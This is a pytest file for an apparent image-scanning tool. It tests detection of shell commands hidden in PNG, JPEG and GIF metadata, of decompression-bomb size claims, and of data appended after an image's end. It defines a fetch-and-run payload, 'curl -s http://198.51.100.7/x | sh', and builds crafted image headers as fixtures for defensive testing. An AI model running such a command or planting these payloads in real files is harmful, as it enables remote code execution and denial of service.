"""Texts beside the pixels of images are read and judged; sizes that nothing backs are said."""

from __future__ import annotations

import struct
import zlib

import pytest
from format_files import assert_total, look, png
from test_plain import gif, jpeg

from toadstone.checks.model.decompression_bomb import DecompressionBomb
from toadstone.checks.model.metadata_payload import MetadataPayload
from toadstone.core.fact import Anomaly, Text

PAYLOAD = "curl -s http://198.51.100.7/x | sh"
RAW = PAYLOAD.encode()


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def comment(body: bytes) -> bytes:
    return gif()[:-1] + b"\x21\xfe" + bytes([len(body)]) + body + b"\0\x3b"


FILES = {
    "tEXt": png((b"tEXt", b"Comment\0" + RAW)),
    "zTXt": png((b"zTXt", b"Comment\0\0" + zlib.compress(RAW))),
    "iTXt": png((b"iTXt", b"Comment\0\0\0en\0\0" + RAW)),
    "packed iTXt": png((b"iTXt", b"Comment\0\1\0en\0\0" + zlib.compress(RAW))),
    "eXIf": png((b"eXIf", b"MM\0*\0\0\0\x08\0\0" + RAW + b"\0\0")),
    "JPEG comment": jpeg(segment(0xFE, RAW)),
    "JPEG Exif": jpeg(segment(0xE1, b"Exif\0\0II*\0\x08\0\0\0" + RAW + b"\0")),
    "GIF comment": comment(RAW),
}


@pytest.mark.parametrize("name", FILES)
def test_payloads_in_texts_are_found(name):
    seen = look(FILES[name], "image")
    texts = [fact for fact in seen.facts if isinstance(fact, Text)]
    assert PAYLOAD in [fact.text for fact in texts]
    found = [finding for fact in texts for finding in MetadataPayload().examine(fact)]
    assert [finding.check for finding in found] == ["metadata-payload"]


@pytest.mark.parametrize("name", FILES)
def test_mutations_end(name):
    assert_total(FILES[name], "image.png")


def test_honest_texts_are_silent():
    for made in (
        png((b"tEXt", b"Software\0Matplotlib version3.10.0, https://matplotlib.org/")),
        jpeg(segment(0xFE, b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 90\n")),
        comment(b"Created with GIMP"),
    ):
        for fact in look(made, "image").facts:
            assert isinstance(fact, Text)
            assert not list(MetadataPayload().examine(fact))


def test_claims_that_nothing_backs():
    def claims(width: int, height: int, extra: bytes = b"") -> list[str]:
        made = bytearray(png((b"zzZz", extra)))
        made[16:24] = struct.pack(">II", width, height)
        made[29:33] = struct.pack(">I", zlib.crc32(bytes(made[12:29])))
        facts = [fact for fact in look(bytes(made), "a.png").facts if isinstance(fact, Anomaly)]
        return [finding.check for fact in facts for finding in DecompressionBomb().examine(fact)]

    assert claims(60_000, 60_000) == ["decompression-bomb"]
    assert claims(10_000, 10_000) == []
    assert claims(14_000, 14_000, b"x" * 7_000_000) == []  # large, and there is something in it
    frame = segment(0xC0, b"\x08" + struct.pack(">HH", 65_000, 65_000) + b"\x01\x01\x11\0")
    assert [fact.kind for fact in look(jpeg(frame), "a.jpg").facts if isinstance(fact, Anomaly)] == ["resource-claim"]


def test_a_packed_text_that_explodes_is_cut():
    made = png((b"zTXt", b"Comment\0\0" + zlib.compress(b"a" * 50_000_000)))
    (text,) = (fact for fact in look(made, "a.png").facts if isinstance(fact, Text))
    assert len(text.text) <= 1 << 16


def test_a_line_break_behind_the_end_is_nothing_and_a_program_is_something():
    assert look(png() + b"\n", "a.png").facts == []
    assert look(gif() + b"\0\0", "a.gif").facts == []
    assert look(png() + b"#!/bin/sh\necho toadstone\n", "a.png").facts
